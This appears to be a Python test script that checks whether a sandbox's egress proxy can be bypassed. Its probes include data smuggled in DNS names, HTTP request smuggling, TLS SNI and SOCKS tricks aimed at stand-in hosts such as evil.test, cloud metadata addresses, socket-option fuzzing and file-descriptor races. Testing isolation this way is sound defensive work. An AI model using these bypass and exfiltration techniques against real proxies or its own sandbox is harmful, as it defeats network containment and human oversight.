# SPDX-License-Identifier: MIT
"""What a name, a blank or an option carries out; runs inside a session.

usage: bypass_deep.py CA_FILE WORKSPACE [open CLASS...]	(see attempts.py)
"""
import array
import ctypes
import os
import socket
import struct
import threading
import time

from attempts import (EVIL, EVIL6, META, OPEN, PATIENCE, PRIVATE, PROXY, WEB,
                      attempt, everything, hello, libc, query, talk, via_proxy)

STREAM, DGRAM = socket.SOCK_STREAM, socket.SOCK_DGRAM
FOUR, SIX = socket.AF_INET, socket.AF_INET6
UDP = "loopback" not in OPEN
NAMES = "names" not in OPEN
HEAD = b"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n"
POST = b"POST" + HEAD[3:]
ORIGIN = b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
INNER = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"


def connect(host, port):
    host = host if isinstance(host, bytes) else host.encode()
    return b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (
        host, port, host, port)


def http(host):
    host = host if isinstance(host, bytes) else host.encode()
    return b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)


def socks(kind, host, port=80, command=1, reserved=0):
    return b"\5\1\0" + bytes([5, command, reserved, kind]) + host + \
        struct.pack(">H", port)


def named(host):
    host = host if isinstance(host, bytes) else host.encode()
    return bytes([len(host)]) + host


def reached(*parts):
    data = everything(*parts)
    return data if b"host=evil.test path" in data or \
        b"path=http://evil" in data else None


# --- data in names that the proxy looks up ----------------------------------


def refused(request):
    """What the proxy says, unless it is that the policy says no."""
    def function():
        data = everything(request)
        return None if b"blocked by policy" in data or data[2:4] == b"\5\2" \
            else data
    return function


DATA = {
    "hexadecimal": "deadbeef0123456789abcdef01.deep.test",
    "base32": "mfrggzdfmztwq2lknnwg23tpobyxe43u.deep.test",
    "long": "a" * 62 + ".deep.test",
    "many labels": "0123.4567.89ab.cdef." * 4 + "deep.test",
    "below an allowed one": "0123456789abcdef0123456789abcdef.good.test",
}
for name, host in DATA.items():
    attempt("data/http " + name, refused(http(host)))
    attempt("data/connect " + name, refused(connect(host, 443)))
    attempt("data/socks " + name, refused(socks(3, named(host), 443)))

# --- addresses that names lead to -------------------------------------------

for host in ("mapped", "nat64", "sixto4", "teredo", "zero", "zeronet", "local",
             "unique", "multi", "meta", "azure", "meta6", "own", "shared"):
    at = host + ".good.test"
    attempt("leads/http " + host, lambda: via_proxy(http(at)))
    attempt("leads/connect " + host, lambda: via_proxy(connect(at, 80)))
    attempt("leads/socks " + host, lambda: (lambda data: data if
            data[2:4] == b"\5\0" else None)(everything(socks(3, named(at)))))
    if NAMES:
        def led():
            got = None
            for to in socket.getaddrinfo(at, 80, 0, STREAM):
                try:
                    got = talk(socket.socket(to[0]), to[4]) or got
                except OSError:
                    pass
            return got

        attempt("leads/own " + host, led)

# --- what servers take for a request, inside a tunnel -------------------------

GET = b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
for name, text in {
        "two blanks": GET.replace(b" /", b"  /", 1),
        "many blanks": GET.replace(b" /", b" " * 300 + b"/", 1),
        "a tab and a blank": GET.replace(b" /", b"\t /", 1),
        "a vertical tab": GET.replace(b" ", b"\x0b", 2),
        "a form feed": GET.replace(b" ", b"\x0c", 2),
        "a bare return": GET.replace(b" ", b"\r", 2),
        "separators": GET.replace(b" ", b"\x1c", 2),
        "a blank of latin": GET.replace(b" ", b"\xa0", 2),
        "next line of latin": GET.replace(b" ", b"\x85", 2),
        "a blank first": b" " + GET, "a tab first": b"\t" + GET,
        "latin first": b"\xa0" + GET, "a separator first": b"\x1f" + GET,
        "many lines first": b"\r\n" * 20 + GET,
        "very many lines first": b"\r\n" * 400 + GET,
        "lines and blanks first": b"\n \r\n \n" + GET,
        "another scheme": GET.replace(b" /", b" foo://evil.test/", 1),
        "ftp": GET.replace(b" /", b" ftp://evil.test/", 1),
        "no slash": GET.replace(b" /", b" x", 1),
        "a question": GET.replace(b" /", b" ?x", 1),
        "a long method": b"A" * 100 + GET[3:],
        "of a good host, absolute": b"GET http://evil.test/ HTTP/1.1\r\n"
                                    b"Host: good.test\r\n\r\n",
        "host folded": b"GET / HTTP/1.1\r\nHost:\r\n evil.test\r\n\r\n",
        "host after a blank": b"GET / HTTP/1.1\r\nHost : evil.test\r\n\r\n",
        "a first line of blanks": b"GET / HTTP/1.1\r\n \r\nHost: evil.test\r\n\r\n",
        "bare ends": GET.replace(b"\r\n", b"\n"),
        "0.9 after one": b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\nGET /\r\n",
        "smuggled by length": b"POST / HTTP/1.1\r\nHost: good.test\r\n"
                              b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" %
                              len(GET) + GET,
        "smuggled by coding": b"POST / HTTP/1.1\r\nHost: good.test\r\n"
                              b"Content-Length: 5\r\n"
                              b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
                              GET}.items():
    for port in 80, 8080:
        attempt(f"blanks/{name} to {port}", lambda: reached(
            connect("good.test", port), text))
        attempt(f"blanks/{name} to {port} by socks", lambda: reached(
            socks(3, named("good.test"), port), text))
        attempt(f"blanks/{name} to {port} in pieces", lambda: reached(
            connect("good.test", port),
            *(text[i:i + 7] for i in range(0, len(text), 7))))
        if NAMES:
            def own():
                s = socket.create_connection(("good.test", port), PATIENCE)
                s.settimeout(PATIENCE)
                s.sendall(text)
                s.shutdown(socket.SHUT_WR)
                got = b""
                while part := s.recv(4096):
                    got += part
                return got if b"host=evil.test path" in got or \
                    b"path=http://evil" in got else None

            attempt(f"blanks/{name} to {port} by itself", own)

# --- more of requests that are read in two ways --------------------------------

LENGTH = b"Content-Length: %d\r\n" % len(ORIGIN)
for name, text in {
        "coding and a blank": POST + b"Transfer-Encoding: chunked \r\n" +
                              LENGTH + b"\r\n0\r\n\r\n" + ORIGIN,
        "coding and a tab": POST + b"Transfer-Encoding:\tchunked\r\n" + LENGTH +
                            b"\r\n0\r\n\r\n" + ORIGIN,
        "coding of two lines": POST + b"Transfer-Encoding: chunked\r\n"
                               b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
                               ORIGIN,
        "coding after a comma": POST + b"Transfer-Encoding: ,chunked\r\n" +
                                LENGTH + b"\r\n0\r\n\r\n" + ORIGIN,
        "coding gzip first": POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n"
                             b"0\r\n\r\n" + ORIGIN,
        "coding misspelt": POST + b"Transfer-Encoding: xchunked\r\n" + LENGTH +
                           b"\r\n" + ORIGIN,
        "coding and a vertical tab": POST + b"Transfer-Encoding\x0b: chunked\r\n"
                                     + LENGTH + b"\r\n0\r\n\r\n" + ORIGIN,
        "coding after a blank line end": POST + b"X: y\rTransfer-Encoding: "
                                         b"chunked\r\n\r\n0\r\n\r\n" + ORIGIN,
        "length in two cases": POST + b"content-length: 0\r\n" + LENGTH + b"\r\n"
                               + ORIGIN,
        "length twice the same": POST + b"Content-Length: 0\r\n" * 2 + b"\r\n" +
                                 ORIGIN,
        "length with a list": POST + b"Content-Length: 0,0\r\n\r\n" + ORIGIN,
        "length with a point": POST + b"Content-Length: 0.0\r\n\r\n" + ORIGIN,
        "length with letters": POST + b"Content-Length: 0a\r\n\r\n" + ORIGIN,
        "length with a plus": POST + b"Content-Length: +0\r\n\r\n" + ORIGIN,
        "length with an underscore": POST + b"Content-Length: 0_0\r\n\r\n" +
                                     ORIGIN,
        "length in digits of another script": POST +
            "Content-Length: \u0660\r\n\r\n".encode() + ORIGIN,
        "chunks of many zeros": POST + b"Transfer-Encoding: chunked\r\n\r\n" +
                                b"0" * 17 + b"\r\n\r\n" + ORIGIN,
        "chunks end with a line feed": POST + b"Transfer-Encoding: chunked\r\n"
                                       b"\r\n0\r\n\n" + ORIGIN,
        "chunks that wrap": POST + b"Transfer-Encoding: chunked\r\n\r\n"
                            b"100000000\r\nx\r\n0\r\n\r\n" + ORIGIN,
        "chunks of half a byte": POST + b"Transfer-Encoding: chunked\r\n\r\n"
                                 b"0;\x80\r\n\r\n" + ORIGIN,
        "a field of a blank": HEAD + b" \r\n" + b"Host: evil.test\r\n\r\n",
        "a field of nothing": HEAD + b": x\r\nHost: evil.test\r\n\r\n",
        "a field of a nul": HEAD + b"X\0: y\r\nHost: evil.test\r\n\r\n",
        "folded at once": b"GET http://good.test/ HTTP/1.1\r\n Host: evil.test"
                          b"\r\nHost: good.test\r\n\r\n",
        "129 fields": HEAD + b"X: y\r\n" * 200 + b"\r\n" + ORIGIN,
        "a long field": HEAD + b"X: " + b"y" * 70000 + b"\r\n\r\n" + ORIGIN,
        "a long target": b"GET http://good.test/" + b"a" * 70000 +
                         b" HTTP/1.1\r\nHost: good.test\r\n\r\n" + ORIGIN,
        "the same host twice": HEAD + b"Host: good.test\r\n\r\n" + ORIGIN,
        "lines in the target": INNER.replace(b"/ ", b"/%0d%0aHost:%20x ", 1),
        "a return in the target": HEAD.replace(b"/ ", b"/\r\nHost:evil.test "),
        "a bar": INNER.replace(b"//evil", b"//good.test|@evil", 1),
        "a port of a name": INNER.replace(b"test/", b"test:http/", 1),
        "a port with a nul": INNER.replace(b"test/", b"test:80\0/", 1),
        "a port in hexadecimal": INNER.replace(b"test/", b"test:0x50/", 1),
        "a port in another script": INNER.replace(
            b"test/", "test:\u0668\u0660/".encode(), 1),
        "a very long host": http(b"a." * 200 + b"evil.test"),
        "a long label": http(b"a" * 70 + b".evil.test"),
        "a zone": http(b"[fe80::1%25wan0]"), "a zone of a number":
        http(b"[::ffff:169.254.169.254%251]")}.items():
    attempt("two ways/" + name, lambda: reached(text))

# --- hellos ----------------------------------------------------------------------


def records(data, *sizes):
    """The handshake bytes of a hello in records of these sizes."""
    body, out = data[5:], b""
    for size in sizes + (len(body),):
        part, body = body[:size], body[size:]
        out += b"\x16\3\1" + struct.pack(">H", len(part)) + part
    return out


def padded(name, size):
    return hello(name, struct.pack(">HH", 21, size) + b"\0" * size)


def listed(*names):
    """A list of server names, with its lengths as they are."""
    body = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in names)
    body = struct.pack(">H", len(body)) + body
    return hello(b"", struct.pack(">HH", 0, len(body)) + body)


BAD = hello(b"evil.test")
for name, parts in {
        "two names": [listed(b"good.test", b"evil.test")],
        "two names, the other first": [listed(b"evil.test", b"good.test")],
        "an empty name": [listed(b"")], "an empty list": [listed()],
        "padded": [padded(b"evil.test", 12000)],
        "padded over two records": [records(padded(b"evil.test", 20000), 16000)],
        "records of 1, 3 and more": [records(BAD, 1, 3)],
        "records and segments": [records(BAD, 4)[i:i + 3]
                                 for i in range(0, 90, 3)] + [
                                     records(BAD, 4)[90:]],
        "an address of six": [hello(EVIL6.encode())],
        "an address of the allowed": [hello(WEB.encode())],
        "a nul behind": [hello(b"good.test\0")],
        "a dot before": [hello(b".evil.test")],
        "a star": [hello(b"*.good.test")],
        "another esni": [hello(b"evil.test", b"\xff\xce\0\x04\0\0\0\0")],
        "a ticket": [hello(b"evil.test", b"\0\x23\0\x10" + b"t" * 16)],
        "early data": [hello(b"evil.test", b"\0\x2a\0\0") +
                       b"\x17\3\3\0\x05early"],
        "too long a message": [b"\x16\3\1\x40\0\1\xff\xff\xff" + b"x" * 16380],
        "a good one, then an alert and a bad one": [
            hello(b"good.test"), b"\x15\3\3\0\2\1\0", BAD],
        "a datagram's": [b"\x16\xfe\xfd\0\0\0\0\0\0\0\0" + BAD[3:]],
        "of version 2 without the bit": [b"\1\0\2\0\3\0\0\0\x10" + b"r" * 19],
}.items():
    for way, begin in {"connect": connect("good.test", 443),
                       "socks": socks(3, named("good.test"), 443)}.items():
        def tunnel():
            data = everything(begin, *parts)
            after = data[data.find(b"\r\n\r\n") + 4:] if way == "connect" \
                else data[12:]
            if name.startswith("a good one"):
                return data if after.count(b"\x16\3\3") > 1 and \
                    b"evil" in after else None
            return data if after[:1] == b"\x16" else None

        attempt(f"hellos/{name} by {way}", tunnel)
    if NAMES:
        def direct():
            s = socket.create_connection(("good.test", 443), PATIENCE)
            s.settimeout(PATIENCE)
            for part in parts:
                s.sendall(part)
            s.shutdown(socket.SHUT_WR)
            got = b""
            while part := s.recv(4096):
                got += part
            return got if got[:1] == b"\x16" and not name.startswith(
                "a good one") else None

        attempt(f"hellos/{name} by itself", direct)

# --- SOCKS ------------------------------------------------------------------------

AT = socket.inet_aton(EVIL)
for name, data in {
        "mapped": socks(4, b"\0" * 10 + b"\xff\xff" + AT),
        "nat64": socks(4, b"\0\x64\xff\x9b" + b"\0" * 8 + AT),
        "6to4": socks(4, b"\x20\2" + AT + b"\0" * 10),
        "mapped metadata": socks(4, b"\0" * 10 + b"\xff\xff" +
                                 socket.inet_aton(META)),
        "translated": socks(4, b"\0" * 8 + b"\xff\xff\0\0" + AT),
        "compatible": socks(4, b"\0" * 12 + AT),
        "unspecified": socks(4, b"\0" * 16), "zero": socks(1, b"\0" * 4),
        "nul behind": socks(3, named(b"evil.test\0")),
        "nul between": socks(3, named(b"evil.test\0.good.test")),
        "nul before": socks(3, named(b"\0evil.test")),
        "dot behind": socks(3, named(b"evil.test.")),
        "brackets": socks(3, named(b"[" + EVIL6.encode() + b"]")),
        "six as a name": socks(3, named(EVIL6)),
        "port in the name": socks(3, named(b"evil.test:80")),
        "blank": socks(3, named(b"evil.test ")), "port 0": socks(
            3, named(b"evil.test"), 0),
        "kind 0": socks(0, AT), "kind 2": socks(2, AT), "kind 5": socks(5, AT),
        "command 0": socks(1, AT, 80, 0), "command 4": socks(1, AT, 80, 4),
        "command of tor": socks(3, named(b"evil.test"), 0, 0xf0),
        "bind": socks(1, b"\0" * 4, 0, 2),
        "associate": socks(1, b"\0" * 4, 0, 3),
        "reserved": socks(3, named(b"evil.test"), 80, 1, 1),
        "no method": b"\5\0" + socks(3, named(b"evil.test"))[3:],
        "gssapi": b"\5\1\1" + socks(3, named(b"evil.test"))[3:],
        "not waiting for the method": socks(3, named(b"evil.test"))[:2] +
        socks(3, named(b"evil.test"))[2:]}.items():
    def by_socks():
        got = everything(data + ORIGIN)
        return got if got[2:4] == b"\5\0" or b"host=" in got else None

    attempt("socks/" + name, by_socks)


def words(host, port, flags=0):
    """core/direct.h: what only the supervisor says, said by the command."""
    a = host if ":" in host else "::ffff:" + host
    return b"\0AD\1" + socket.inet_pton(SIX, a) + struct.pack(
        ">HBB", port, flags, 0)


for host in EVIL, META, PRIVATE, EVIL6, "127.0.0.1":
    for flags in 0, 1:
        attempt(f"socks/words of the supervisor {host} {flags}", lambda: (
            lambda got: got if b"host=" in got or got[:1] == b"\0" else None)(
                everything(words(host, 80, flags) + ORIGIN)))

# --- what is sent to name servers ----------------------------------------------

ASK = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
DEEP = b"\x1adeadbeef0123456789abcdef01\4deep\4test\0"
if NAMES:
    for name, raw in {
            "nonsense": os.urandom(300), "much nonsense": os.urandom(1400),
            "zeros": b"\0" * 40, "a header alone": ASK,
            "a response": b"\0\7\x81\x80" + ASK[4:] + DEEP + b"\0\1\0\1",
            "an update": b"\0\7\x28\0" + ASK[4:] + DEEP + b"\0\1\0\1",
            "a notification": b"\0\7\x20\0" + ASK[4:] + DEEP + b"\0\1\0\1",
            "many questions": ASK[:4] + b"\0\xff" + ASK[6:] + DEEP +
                              b"\0\1\0\1",
            "an answer in it": ASK[:6] + b"\0\1" + ASK[8:] + DEEP + b"\0\1\0\1",
            "class of hesiod": ASK + DEEP + b"\0\1\0\4",
            "class of any": ASK + DEEP + b"\0\1\0\xff",
            "a label of 64": ASK + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
            "no end": ASK + b"\x3f" + b"a" * 63,
            "a pointer forward": ASK + b"\xc0\x20" + b"\0" * 20}.items():
        def said():
            s = socket.socket(FOUR, DGRAM)
            s.settimeout(1.5)
            s.connect(("8.8.8.8", 53))
            s.send(raw)
            try:
                a = s.recv(4096)
            except TimeoutError:
                return None
            return a if a[6:8] != b"\0\0" else None

        attempt("names/" + name, said)
        attempt("names/by tcp: " + name, lambda: (lambda a: a if a and
                a[8:10] != b"\0\0" else None)(talk(
                    socket.socket(), ("8.8.8.8", 53),
                    struct.pack(">H", len(raw)) + raw)))
    for kind in list(range(2, 28)) + [29, 33, 35, 37, 39, 43, 44, 46, 47, 48, 50,
                                      52, 53, 61, 63, 99, 108, 249, 250, 251,
                                      252, 253, 255, 256, 257, 32768, 65280]:
        attempt(f"names/type {kind}", lambda: query("good.test", kind))
        attempt(f"names/type {kind} of another", lambda: query(
            "x.evil.test", kind))
    for option in 3, 8, 9, 10, 12, 15, 16, 17, 65001:
        attempt(f"names/option {option}", lambda: query(
            "evil.test", extra=b"\0\0\x29\x10\0\0\0\0\0\x14" +
            struct.pack(">HH", option, 16) + b"0123456789abcdef"))

# --- sockets: every option, every flag, odd addresses ---------------------------


def options():
    """With whatever option is given, no other place is reached."""
    out = []
    for level in 0, 1, 6, 17, 41, 58, 255, 263, 270, 274, 279, 282, 284, 285, 286:
        for option in list(range(1, 90)) + [100, 103, 104, 105]:
            s = socket.socket(SIX if level in (41, 58) else FOUR)
            s.settimeout(PATIENCE)
            try:
                s.setsockopt(level, option, 1)
            except OSError:
                s.close()
                continue
            try:
                s.settimeout(PATIENCE)
                s.connect((EVIL if s.family == FOUR else "::ffff:" + EVIL, 80))
                # the namespace's own socket takes it, and ends it
                s.sendall(b"GET / HTTP/1.0\r\n\r\n")
                if s.recv(100):
                    out.append((level, option))
            except OSError:
                pass
            s.close()
    return out


def options_of_datagrams():
    out = []
    for level in 0, 1, 17, 41, 58, 273, 285:
        for option in list(range(1, 90)) + [100, 103, 104]:
            s = socket.socket(SIX if level in (41, 58) else FOUR, DGRAM)
            s.settimeout(1)
            try:
                s.setsockopt(level, option, 1)
            except OSError:
                s.close()
                continue
            try:
                s.sendto(b"x" * 30, (EVIL if s.family == FOUR else
                                     "::ffff:" + EVIL, 443))
                out.append((level, option))
            except OSError:
                pass
            s.close()
    return out


def flags():
    """Sent with each flag, unconnected, by stream and by datagram."""
    out = []
    for kind in (STREAM, DGRAM) if UDP else (STREAM,):
        for bit in range(32):
            s = socket.socket(FOUR, kind)
            s.settimeout(1)
            flag = 1 << bit if bit < 31 else -(1 << 31)
            try:
                for call in range(2):
                    if call:
                        s.sendmsg([b"x" * 30], [], flag, (EVIL, 443))
                    else:
                        s.sendto(b"x" * 30, flag, (EVIL, 443))
                    if kind == DGRAM and flag != 0x10:  # MSG_PROBE sends nothing
                        out.append((kind, hex(flag), call))
            except (OSError, OverflowError):
                pass
            s.close()
    return out


attempt("every/option", options)
if UDP:
    attempt("every/option of datagrams", options_of_datagrams)
attempt("every/flag", flags)


def raw_connect(family, kind, at, length=None):
    def function():
        s = socket.socket(family, kind)
        s.settimeout(PATIENCE)
        if libc.connect(s.fileno(), at + b"\0" * 4096,
                        len(at) if length is None else length) != 0:
            return None
        try:
            s.getpeername()
        except OSError:
            return None
        return talk(s) if kind == STREAM else s.send(b"x" * 30) and "sent"
    return function


def raw_send(family, at, length=None):
    def function():
        s = socket.socket(family, DGRAM)
        n = libc.sendto(s.fileno(), b"x" * 30, 30, 0, at + b"\0" * 4096,
                        len(at) if length is None else length)
        return "sent" if n > 0 else None
    return function


IN = struct.pack("=HH4s", 2, socket.htons(443), AT)
IN6 = struct.pack("=HH4s16sI", 10, socket.htons(443), AT,
                  socket.inet_pton(SIX, "::ffff:" + EVIL), 0)
for name, (at, length) in {
        "short": (IN, 8), "of 15": (IN, 15), "of 16": (IN, 16), "of 128": (IN, 128),
        "of 129": (IN, 129), "of 4096": (IN, 4096), "negative": (IN, -1),
        "six": (IN6, None), "six of 24": (IN6, 24), "six of 16": (IN6, 16),
        "unspecified family": (b"\0\0" + IN[2:], 16),
        "unspecified family, six": (b"\0\0" + IN6[2:], 28),
        "unix": (b"\1\0/x\0", None), "netlink": (b"\x10\0" + IN[2:], 16),
        "packet": (b"\x11\0" + IN[2:], 20), "family 255": (b"\xff\0" + IN[2:], 16),
        "family of two bytes": (b"\2\1" + IN[2:], 16),
        "six with a zone": (IN6[:24] + struct.pack("=I", 1), 28)}.items():
    for family in FOUR, SIX:
        attempt(f"odd/connect {name} {family}", raw_connect(family, STREAM, at,
                                                            length))
        if UDP:
            attempt(f"odd/datagram connect {name} {family}", raw_connect(
                family, DGRAM, at, length))
            attempt(f"odd/datagram {name} {family}", raw_send(family, at, length))


def corked():
    """Begun to a place that is allowed, ended to another: the capture tells."""
    s = socket.socket(FOUR, DGRAM)
    s.setsockopt(17, 1, 1)  # UDP_CORK
    s.sendto(b"x" * 30, ("127.0.0.1", 9))
    s.sendto(b"x" * 30, (EVIL, 443))
    s.setsockopt(17, 1, 0)


def more():
    s = socket.socket(FOUR, DGRAM)
    s.sendto(b"x" * 30, socket.MSG_MORE, ("127.0.0.1", 9))
    s.sendto(b"x" * 30, (EVIL, 443))


def passed_connected():
    """Connected by one process, bent by another while it is sent over."""
    a, b = socket.socketpair()
    s = socket.socket(FOUR, DGRAM)
    s.connect(("127.0.0.1", 9))
    a.sendmsg([b"x"], [(1, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        got = b""
        try:
            _, control, _, _ = b.recvmsg(1, 100)
            fds = array.array("i")
            fds.frombytes(control[0][2][:4])
            t = socket.socket(fileno=fds[0])
            libc.connect(t.fileno(), struct.pack("=H14x", 0), 16)
            t.connect((EVIL, 443))
            got = b"%d" % t.send(b"x" * 30)
        except OSError:
            pass
        os.write(w, got or b"0")
        os._exit(0)
    os.waitpid(pid, 0)
    got = os.read(r, 10)
    return got if got != b"0" else None


def spliced():
    """By splice() and sendfile() into a socket that is not connected."""
    s = socket.socket(FOUR, DGRAM)
    r, w = os.pipe()
    os.write(w, b"x" * 30)
    for call in (lambda: os.splice(r, s.fileno(), 30),
                 lambda: os.sendfile(s.fileno(), os.open(__file__, 0), 0, 30)):
        try:
            if call():
                return "sent"
        except OSError:
            pass
    return None


if UDP:
    attempt("odd/corked", corked)
    attempt("odd/more", more)
    attempt("odd/passed and connected again", passed_connected)
    attempt("odd/spliced", spliced)

# --- races ------------------------------------------------------------------------


def flipping(change, tries, make):
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            change()

    t = threading.Thread(target=flip)
    t.start()
    try:
        return next(filter(None, (make() for _ in range(tries))), None)
    finally:
        stop.set()
        t.join()


def number_of_two_kinds():
    """The number is a datagram socket's, a stream's and a unix socket's."""
    keep = [socket.socket(FOUR, DGRAM), socket.socket(), socket.socket(1, DGRAM)]
    number = os.dup(keep[0].fileno())
    at = struct.pack("=HH4s8x", 2, socket.htons(443), AT)

    def change():
        for s in keep:
            os.dup2(s.fileno(), number)

    def make():
        libc.connect(number, at, 16)
        return "sent" if libc.sendto(number, b"x" * 9, 9, 0, at, 16) > 0 else None

    return flipping(change, 100, make) or next(
        (s for s in keep[:2] if connected(s)), None)


def connected(s):
    try:
        return s.getpeername()[0] == EVIL
    except OSError:
        return False


def stub_or_not():
    """Port 53 or another, of the same address."""
    at = ctypes.create_string_buffer(struct.pack(
        "=HH4s8x", 2, socket.htons(53), AT), 16)
    ports = struct.pack(">H", 53), struct.pack(">H", 443)

    def change():
        for p in ports:
            ctypes.memmove(ctypes.addressof(at) + 2, p, 2)

    def make():
        s = socket.socket()
        s.settimeout(1)
        if libc.connect(s.fileno(), at, 16) == 0:
            name = s.getpeername()
            return name if name[0] == EVIL and name[1] != 53 and talk(s) \
                else None
        s.close()

    return flipping(change, 60, make)


if UDP:
    attempt("race/kinds", number_of_two_kinds)
attempt("race/port", stub_or_not)

# --- what must work ----------------------------------------------------------------


def works(name, ok):
    print("works/" + name, "ok" if ok else "FAILED")


works("proxy", b"host=good.test path=/d" in everything(
    b"GET http://good.test/d HTTP/1.1\r\nHost: good.test\r\n"
    b"Connection: close\r\n\r\n"))
works("long name with a rule of its own",
      b"host=" in everything(http("0123456789abcdef0123456789abcdef.exact.test")))
works("name of a cloud", b"blocked" not in everything(connect(
    "ec2-203-0-113-25.compute-1.internal.deep.test", 443)))
works("slowly, to another port", everything(
    connect("ssh.good.test", 22), b"MAIL  x\r\n").endswith(b"total 9\n"))
if NAMES:
    works("long name, looked up", query(
        "0123456789abcdef0123456789abcdef.exact.test"))

# --- names, one by one: last, because no others are looked up for a while -----------


def burst():
    """How many of 600 names were asked for, by proxy, as fast as can be."""
    asked, start, lock = [0], time.monotonic(), threading.Lock()

    def some(first):
        for i in range(first, first + 100):
            data = everything(connect("p%d.deep.test" % i, 443), shut=False)
            with lock:
                asked[0] += b"blocked by policy" not in data

    threads = [threading.Thread(target=some, args=(k,))
               for k in range(0, 600, 100)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    took = time.monotonic() - start
    # what is asked of the stub meanwhile counts, too
    return f"{asked[0]} of 600" if asked[0] > 210 + 55 * took else None


result = burst()
print("data/burst", "ok" if not result else "FAILED " + result)
